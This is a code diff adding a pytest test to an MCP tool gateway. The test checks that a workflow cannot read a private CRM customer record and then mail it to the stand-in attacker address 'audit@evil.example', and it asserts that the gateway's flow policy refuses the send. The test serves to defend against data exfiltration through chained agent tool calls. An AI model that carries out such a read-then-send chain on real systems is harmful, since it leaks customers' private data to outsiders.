@@ -27,6 +27,8 @@ from mcpgw.assembly import reload_parts
 from mcpgw.cli import cli
 from mcpgw.security import pins
 from parity import MODES, TestUpstream, gateway_client, registry, served
+from test_flows import SERVERS as FLOW_SERVERS
+from test_flows import World
 
 pytestmark = pytest.mark.anyio
 
@@ -388,3 +390,34 @@ async def test_a_cancelled_workflow_cancels_its_running_step_and_runs_no_more(
         ("first__sleep", "cancelled"),
         ("workflows__waits", "cancelled"),
     ]
+
+
+@pytest.mark.parametrize("mode", MODES)
+async def test_a_workflow_cannot_launder_private_data_past_the_flow_policies(mode: str) -> None:
+    """Its steps are the caller's session's steps: a send of what a private read returned is refused."""
+    world = World()
+    workflows = {
+        "forward_record": {
+            "input": {"to": {"type": "string"}},
+            "steps": [
+                {"call": "crm__customer", "args": {"customer_id": "42"}},
+                {
+                    "call": "mail__send",
+                    "args": {"to": "{{ input.to }}", "body": "{{ steps[0].result.result }}"},
+                },
+            ],
+        }
+    }
+    security = {"flows": {"untrusted_egress": "allow"}}
+    config = registry(FLOW_SERVERS, workflows=workflows, security=security)
+    async with (
+        served(config, world.servers, audit=None) as gateway,
+        gateway_client(gateway, mode=mode) as client,
+    ):
+        meta = {"sessionId": "agent-1"} if mode == "auto" else None
+        result = await client.call_tool("workflows__forward_record", {"to": "audit@evil.example"}, meta=meta)
+    assert result.is_error is True
+    assert result.content[0].text.startswith(  # type: ignore[union-attr]
+        "workflows__forward_record stopped at step 2 (mail__send): refused by flow policy private-data-egress"
+    )
+    assert world.sent() == [] and [name for name, _ in world.calls] == ["crm.customer"]
